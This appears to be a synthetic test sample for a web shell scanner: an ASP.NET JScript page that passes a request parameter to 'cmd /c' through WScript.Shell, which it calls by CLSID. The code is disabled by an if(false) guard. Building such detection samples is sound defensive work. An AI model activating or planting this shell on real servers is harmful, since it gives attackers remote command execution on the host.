<%@ Page Language="Jscript" %>
<%-- synthetic test sample for breachscan: WScript.Shell COM object by CLSID fed by the request. Inert: if(false). --%>
<%
var c = Request.Item["c"];
if (false) { var r = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Exec("cmd /c " + c); Response.Write(r.StdOut.ReadAll()); }
%>
